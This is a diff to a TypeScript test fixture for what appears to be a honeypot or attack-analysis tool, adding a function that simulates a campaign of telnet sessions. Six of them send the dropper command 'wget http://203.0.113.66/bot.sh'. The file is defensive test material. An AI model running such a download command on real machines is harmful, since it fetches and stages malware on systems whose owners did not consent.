@@ -2,8 +2,9 @@
 // hostile one, in which every text an attacker can choose is hostile.
 
 import type { Micros } from '../../src/base/clock.ts';
+import type { WeirEvent } from '../../src/model/event.ts';
 import type { Insights, PayloadFamily, SessionInsight, SignatureHit, Verdict } from '../../src/model/insight.ts';
-import { hostileText, sampleId } from './sample-records.ts';
+import { hostileText, sampleChunk, sampleId, sampleSession } from './sample-records.ts';
 
 export const sampleHit = (facts: Partial<SignatureHit> = {}): SignatureHit => ({
   rule: 'shell-command-download',
@@ -48,6 +49,32 @@ export const sampleVerdict = (at: Micros, number: number, facts: Partial<Verdict
   records: [],
   ...facts,
 });
+
+/** Six sources that send the same dropper from the same host within minutes, among thirty that have nothing in common. */
+export function sampleCampaign(at: Micros): { readonly events: WeirEvent[]; readonly insights: Insights } {
+  const events: WeirEvent[] = [];
+  const sessions: SessionInsight[] = [];
+  for (let index = 0; index < 36; index += 1) {
+    const together = index < 6;
+    const start = at + index * 20e6;
+    const ip = together ? `192.0.2.${10 + index}` : `198.51.100.${100 + index}`;
+    const session = sampleSession(start, 500 + index, {
+      source: { ip, port: 40_000 },
+      protocol: 'telnet',
+      chunks: [sampleChunk(start, 'in', together ? 'wget http://203.0.113.66/bot.sh' : `ls ${index}`)],
+    });
+    events.push({ kind: 'session', session });
+    sessions.push({
+      id: session.id,
+      start,
+      source: ip,
+      signatures: [],
+      facts: together ? [{ kind: 'url', value: 'http://203.0.113.66/bot.sh' }] : [{ kind: 'command', value: `ls ${index}` }],
+      family: together ? '77aa77aa77aa77aa' : index.toString(16).padStart(16, '0'),
+    });
+  }
+  return { events, insights: { sessions, verdicts: [], families: [], places: [] } };
+}
 
 /** Of the records sampleEvents(now) makes. */
 export function sampleInsights(now: Micros): Insights {
